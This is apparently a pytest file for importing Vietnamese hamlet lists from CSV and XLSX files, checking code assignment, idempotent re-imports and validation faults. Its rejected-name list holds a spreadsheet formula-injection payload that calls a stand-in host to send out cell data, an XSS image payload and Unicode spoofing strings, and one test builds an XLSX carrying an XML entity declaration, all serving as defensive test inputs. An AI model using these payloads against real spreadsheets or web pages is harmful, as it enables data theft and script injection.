import io
import zipfile
from datetime import date

import pytest
from openpyxl import Workbook

from foundation.areas.domain.hamlet_lists import NewHamlet, read_hamlets
from foundation.areas.domain.kinds import AreaKind
from foundation.areas.models import Area
from foundation.areas.services.hamlets import HamletValidationError, add_hamlets, import_hamlets
from foundation.areas.services.tables import TableParseError, read_table

TODAY = date(2026, 11, 21)
HEADINGS = ["Mã xã", "Mã thôn", "Tên", "Loại", "Số hộ", "Nguồn", "Ngày số liệu"]


@pytest.fixture(autouse=True)
def bat_mot(make):
    return make.commune("15607")


@pytest.fixture
def take_in(session):
    def take_in(*rows, headings=HEADINGS):
        return import_hamlets(session, read_hamlets([headings, *rows], today=TODAY))

    return take_in


@pytest.fixture
def faults(take_in, session):
    """What is wrong with some rows; fails if any of them was kept."""

    def faults(*rows, headings=HEADINGS):
        with pytest.raises(HamletValidationError) as caught:
            take_in(*rows, headings=headings)
        assert session.query(Area).filter(Area.level == "hamlet").count() == 0
        return [(fault.row, fault.code) for fault in caught.value.faults]

    return faults


def row(commune="15607", code="", name="Mẫu 1", kind="bản", households="", source="", as_of=""):
    return [commune, code, name, kind, households, source, as_of]


def test_hamlets_come_in_with_codes_made_for_them(take_in, session):
    done = take_in(row(name="Bản Mẫu 1"), row(name="Mẫu 2", kind="Tổ dân phố"))

    assert done.codes == ("15607-001", "15607-002")
    first = session.get(Area, "15607-001")
    assert (first.name, first.kind, first.path) == ("Mẫu 1", AreaKind.BAN, "38/15607/15607-001/")
    assert first.official_households is None
    assert not first.is_sample
    assert session.get(Area, "15607-002").kind is AreaKind.TO_DAN_PHO


def test_the_same_list_again_changes_nothing(take_in):
    rows = [row(households="45", source="UBND xã", as_of="01/11/2026"), row(name="Mẫu 2", code="15607-A2")]
    first = take_in(*rows)
    again = take_in(*rows)

    assert (first.added, first.changed) == (2, 0)
    assert (again.added, again.changed) == (0, 0)
    assert again.codes == first.codes


def test_newer_figures_replace_older_ones_and_missing_ones_leave_them(take_in, session):
    take_in(row(households="45", source="UBND xã", as_of="01/10/2026"))
    done = take_in(row(households="47", source="UBND xã", as_of="2026-11-01"))
    take_in(row())
    session.expire_all()
    hamlet = session.get(Area, "15607-001")

    assert (done.added, done.changed) == (0, 1)
    assert (hamlet.official_households, hamlet.households_as_of) == (47, date(2026, 11, 1))


def test_a_made_code_never_meets_a_given_one(take_in):
    done = take_in(row(name="Mẫu 1"), row(name="Mẫu 2", code="15607-001"))

    assert sorted(done.codes) == ["15607-001", "15607-002"]


# Also by themselves once the kind is taken off; tests of renaming and splitting use them too.
NO_NAMES = (
    *('=HYPERLINK("http://evil.example/?"&A1,"Bấm xem")', "@SUM(1+1)", "+1", "-1", "Bản =1+1", "Bản -1", "Bản (1)"),
    *(
        "<img src=x onerror=alert(1)>",
        "Mẫu\u202e1",
        "Mẫu\u3164",
        "\u3164",
        "Mẫu;1",
        "Mẫu|1",
        "Mẫu\U000e0041",
        "Mẫu = 1",
    ),
    *("Mẫu" + "\u0300" * 6, "\u0300Mẫu", '"Mẫu"', "Mẫu%0A", "Mẫu_1", "Mẫu 😀"),
)
NAMES = (
    *("Mẫu 1", "Khu 2 (Nam Sơn)", "3/5", "N'Đrung", "Xóm 2 & 3", "Ngọc – Lâm, Hạ", "1A", "Y Bĭh", "ꪎꪳ ꪼꪕ", "St. Thôn"),
)


@pytest.mark.parametrize("name", NAMES)
def test_names_as_hamlets_bear_them_are_taken(take_in, name, session):
    take_in(row(name=name))

    assert session.get(Area, "15607-001").name == name


@pytest.mark.parametrize(
    ("faulty", "code"),
    [
        (row(commune="99999"), "unknown_commune"),
        (row(commune="38"), "unknown_commune"),
        (row(commune="Bát Mọt"), "not_a_commune_code"),
        (row(commune=""), "no_commune_code"),
        (row(name=""), "no_name"),
        (row(name="   "), "no_name"),
        (row(name="..."), "not_a_name"),
        (row(name="Mẫu\x07"), "not_a_name"),
        *((row(name=name), "not_a_name") for name in NO_NAMES),
        (row(name="Mẫu " * 30), "name_too_long"),
        (row(kind=""), "no_kind"),
        (row(kind="xã"), "unknown_kind"),
        (row(code="15607/1"), "not_a_hamlet_code"),
        (row(code="1" * 21), "not_a_hamlet_code"),
        (row(code="15607"), "code_taken"),
        (row(households="-3", source="UBND xã", as_of="01/11/2026"), "negative_households"),
        (row(households="năm mươi", source="UBND xã", as_of="01/11/2026"), "not_a_number"),
        (row(households="12,5", source="UBND xã", as_of="01/11/2026"), "not_a_number"),
        (row(households=12.5, source="UBND xã", as_of="01/11/2026"), "not_a_number"),
        (row(households="٤٥", source="UBND xã", as_of="01/11/2026"), "not_a_number"),
        (row(households="500000", source="UBND xã", as_of="01/11/2026"), "too_many_households"),
        (row(households="45", as_of="01/11/2026"), "households_without_source"),
        (row(households="45", source="UBND xã"), "households_without_as_of"),
        (row(households="45", source="UBND xã", as_of="31/02/2026"), "not_a_day"),
        (row(households="45", source="UBND xã", as_of="22/11/2026"), "day_in_the_future"),
        (row(households="45", source="x" * 301, as_of="01/11/2026"), "source_too_long"),
    ],
)
def test_a_faulty_row_is_named_and_nothing_of_the_list_is_kept(faults, faulty, code):
    assert faults(row(name="Mẫu 9"), faulty) == [(3, code)]


def test_every_fault_is_told_at_once_in_the_order_of_rows(faults):
    assert faults(row(name=""), row(commune="99999"), row(name="Mẫu 3"), row(name="mẫu  3"), row(households="x")) == [
        (2, "no_name"),
        (3, "unknown_commune"),
        (5, "doubled"),
        (6, "not_a_number"),
    ]


def test_one_code_twice_is_a_fault_but_one_name_under_two_codes_is_not(faults, take_in):
    assert faults(row(code="A1"), row(code="A1", name="Mẫu 2")) == [(3, "doubled")]
    assert take_in(row(code="A1"), row(code="A2")).added == 2


def test_a_list_without_the_needed_headings_is_refused(faults):
    assert faults(["15607", "Mẫu 1"], headings=["mã xã", "tên gọi"]) == [(1, "missing_heading")] * 2
    assert faults(headings=[]) == [(1, "missing_heading")] * 3


def test_headings_in_any_order_and_columns_not_needed_are_fine(take_in):
    done = take_in(["bản", "ghi chú gì đó", "Mẫu 1", "15607"], headings=["LOẠI", "Ghi chú", "Tên thôn, bản", "MÃ XÃ"])

    assert done.added == 1
    assert done.unused == ("Ghi chú",)


def test_a_list_of_real_hamlets_leaves_the_sample_alone(session, take_in):
    add_hamlets(session, [NewHamlet("15607", "Mẫu 1", AreaKind.BAN)], is_sample=True)
    done = take_in(row())

    assert done.codes == ("15607-002",)
    assert session.get(Area, "15607-001").is_sample
    with pytest.raises(HamletValidationError, match="faulty_hamlets"):
        take_in(row(code="15607-001"))


def test_hamlets_added_twice_in_one_go_are_refused(session):
    with pytest.raises(HamletValidationError):
        add_hamlets(session, [NewHamlet("15607", "Mẫu 1", AreaKind.BAN)] * 2)


@pytest.mark.parametrize("mark", [b"", b"\xef\xbb\xbf"])
@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
def test_csv_is_read_as_people_save_it(tmp_path, mark, delimiter):
    file = tmp_path / "list.csv"
    lines = [delimiter.join(["mã xã", "tên", "loại"]), delimiter.join(["15607", "Mẫu 1", "bản"])]
    file.write_bytes(mark + "\r\n".join(lines).encode())

    assert [list(cells) for cells in read_table(file)] == [["mã xã", "tên", "loại"], ["15607", "Mẫu 1", "bản"]]


def workbook(tmp_path, *rows):
    book = Workbook()
    for cells in rows:
        book.active.append(cells)
    file = tmp_path / "list.xlsx"
    book.save(file)
    return file


def test_xlsx_gives_the_same_hamlets_as_csv(tmp_path, session, make):
    make.commune("04714", "Yên Bình", make.province("15", "Lào Cai"))
    file = workbook(
        tmp_path,
        HEADINGS,
        [15607, None, "Mẫu 1", "bản", 1045, "UBND xã", date(2026, 11, 1)],
        [],
        # Spreadsheets drop the zero in front of a code.
        [4714.0, 12, "Mẫu 2", "thôn", None, None, None],
    )
    done = import_hamlets(session, read_hamlets(read_table(file), today=TODAY))

    assert done.codes == ("15607-001", "12")
    assert session.get(Area, "15607-001").official_households == 1045
    assert session.get(Area, "15607-001").households_as_of == date(2026, 11, 1)
    assert session.get(Area, "12").parent_code == "04714"


def zipped(*names):
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w") as file:
        for name in names:
            file.writestr(name, "<x/>")
    return packed.getvalue()


@pytest.mark.parametrize(
    ("content", "code"),
    [
        (b"", "empty_file"),
        ("mã xã;tên".encode("utf-16"), "not_utf8"),
        ("mã xã;tên".encode("cp1258", "replace"), "not_utf8"),
        (b'a,b\n"open', "faulty_csv"),
        (b"PK\x03\x04 cut short", "faulty_xlsx"),
        (zipped(), "faulty_xlsx"),
        (zipped("nothing.txt"), "faulty_xlsx"),
        (zipped("[Content_Types].xml", "xl/workbook.xml"), "faulty_xlsx"),
    ],
)
def test_a_file_that_is_no_table_is_refused(tmp_path, content, code):
    file = tmp_path / "list.csv"
    file.write_bytes(content)

    with pytest.raises(TableParseError) as caught:
        read_table(file)
    assert caught.value.code == code


def test_a_workbook_with_entities_in_its_xml_is_refused(tmp_path):
    file = workbook(tmp_path, HEADINGS, row())
    hostile = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaa">]><worksheet>&a;</worksheet>'
    spoilt = tmp_path / "spoilt.xlsx"
    with zipfile.ZipFile(file) as given, zipfile.ZipFile(spoilt, "w") as packed:
        for name in given.namelist():
            packed.writestr(name, hostile if "sheet1" in name else given.read(name))

    with pytest.raises(TableParseError, match="faulty_xlsx"):
        read_table(spoilt)
